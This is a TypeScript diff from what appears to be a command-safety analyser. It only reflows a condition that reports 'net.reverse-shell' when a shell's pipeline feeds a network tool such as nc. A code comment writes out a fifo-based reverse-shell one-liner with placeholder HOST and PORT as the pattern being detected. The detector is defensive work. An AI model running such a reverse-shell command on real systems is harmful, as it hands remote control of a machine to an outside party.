@@ -14,7 +14,11 @@ export function judgePipeline(stages: Cmd[], j: Judgement) {
   // `sh 0</tmp/p | nc HOST PORT 1>/tmp/p`: a shell whose output goes to the network, input from a fifo.
   // (tree-sitter reads `a && sh <f | nc …` as `(a && sh <f) | nc …`: then the shell is the group's last command.)
   const first = stages[0]!.compound ? (stages[0]!.inner?.[stages[0]!.inner.length - 1] ?? stages[0]!) : stages[0]!;
-  if (SHELLS.has(first.name) && !first.args.some((w) => /^-[a-zA-Z]*c/.test(w.text)) && stages.slice(1).some((s) => NETWORK_TOOLS.includes(s.name)))
+  if (
+    SHELLS.has(first.name) &&
+    !first.args.some((w) => /^-[a-zA-Z]*c/.test(w.text)) &&
+    stages.slice(1).some((s) => NETWORK_TOOLS.includes(s.name))
+  )
     j.report("net.reverse-shell", first.start, stages[stages.length - 1]!.end);
   for (let i = 1; i < stages.length; i++) {
     const c = stages[i]!;
